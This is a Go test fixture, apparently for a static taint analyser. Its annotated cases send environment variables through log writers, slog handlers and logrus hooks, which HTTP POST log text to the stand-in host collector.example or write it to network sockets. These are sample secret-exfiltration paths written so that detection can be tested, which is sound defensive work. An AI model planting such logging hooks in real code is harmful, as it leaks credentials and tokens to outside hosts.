// What is put into a log comes to the writers, handlers and hooks that the program gives its logger.
package models

import (
	"bytes"
	"context"
	"fmt"
	"log"
	"log/slog"
	"net"
	"net/http"
	"os"
	"strings"

	hclog "github.com/hashicorp/go-hclog"
	"github.com/sirupsen/logrus"
)

const U = "https://collector.example/l"

type lines struct{}

func (l *lines) Write(p []byte) (int, error) {
	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f1, finding(assumed) f1
	return len(p), err
}

func standard(c net.Conn) {
	log.SetOutput(&lines{})
	log.SetOutput(c)                       //~ sink(egress.socket) f1, finding(assumed) f1, capability(NETWORK)
	log.SetOutput(os.Stderr)               //~ ok
	log.Printf("token %s", os.Getenv("A")) //~ source(ENVIRONMENT) f1
	log.Printf("started")                  //~ ok
}

type own struct{}

func (o *own) Write(p []byte) (int, error) {
	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f2, finding(traced) f2
	return len(p), err
}

func ofOne() {
	log.New(&own{}, "", 0).Println(os.Getenv("B"))    //~ source(ENVIRONMENT) f2
	log.New(os.Stderr, "", 0).Println(os.Getenv("B")) //~ ok
}

type records struct{}

func (r *records) Write(p []byte) (int, error) {
	_, err := http.Post(U, "text/plain", bytes.NewReader(p)) //~ sink(egress.http) f3 f4, finding(assumed) f3, finding(assumed) f4
	return len(p), err
}

type handler struct{ slog.Handler }

func (h handler) Handle(ctx context.Context, r slog.Record) error {
	_, err := http.Post(U, "text/plain", strings.NewReader(r.Message)) //~ sink(egress.http) f3 f4, finding(assumed) f3, finding(assumed) f4
	return err
}

func structured(c net.Conn) {
	logger := slog.New(slog.NewJSONHandler(&records{}, nil))
	slog.NewTextHandler(c, nil)         //~ sink(egress.socket) f3 f4, finding(assumed) f3, finding(assumed) f4, capability(NETWORK)
	slog.NewJSONHandler(os.Stderr, nil) //~ ok
	slog.SetDefault(slog.New(handler{}))
	logger.Info("x", "env", os.Environ()) //~ source(ENVIRONMENT) f3
	slog.Info(os.Getenv("C"))             //~ source(ENVIRONMENT) f4
	slog.New(nil).Info("started")         //~ ok
}

type hook struct{}

func (h *hook) Fire(e *logrus.Entry) error {
	text, _ := e.String()
	_, err := http.Post(U, "text/plain", strings.NewReader(text)) //~ sink(egress.http) f5 f6 f7, finding(assumed) f5, finding(assumed) f6, finding(assumed) f7
	return err
}

type second struct{}

func (h *second) Fire(e *logrus.Entry) error {
	_, err := http.Post(U, "text/plain", strings.NewReader(e.Message)) //~ sink(egress.http) f5 f6 f7, finding(assumed) f5, finding(assumed) f6, finding(assumed) f7
	return err
}

func hooked(l *logrus.Logger) {
	logrus.AddHook(&hook{})
	l.AddHook(&second{})
	l.AddHook(nil)                                  //~ ok
	logrus.Info(os.Getenv("D"))                     //~ source(ENVIRONMENT) f5
	logrus.WithField("t", os.Getenv("E")).Info("x") //~ source(ENVIRONMENT) f6
	l.Warnf("%s", os.Getenv("F"))                   //~ source(ENVIRONMENT) f7
	logrus.WithField("t", 1).Info("started")        //~ ok
	logrus.Info("started")                          //~ ok
}

func unheard(e *logrus.Entry) {
	text, _ := e.String()
	http.Post(U, "text/plain", strings.NewReader(text)) //~ ok
	e.String()                                          //~ ok
}

func named(z hclog.Logger, l *logrus.Logger, o *log.Logger) {
	z.Info(os.Getenv("G"))           //~ ok
	http.Get(U + z.Name())           //~ ok
	e := z.With("t", os.Getenv("H")) //~ ok
	http.Get(U + fmt.Sprint(e))      //~ ok
	o.Println(os.Getenv("I"))        //~ ok
}

func byHand(e *logrus.Entry) {
	e.Message = os.Getenv("J") //~ source(ENVIRONMENT) f8
	text, _ := e.String()
	http.Post(U, "text/plain", strings.NewReader(text)) //~ sink(egress.http) f8, finding(traced) f8
	http.Post(U, "text/plain", strings.NewReader("x"))  //~ ok
}
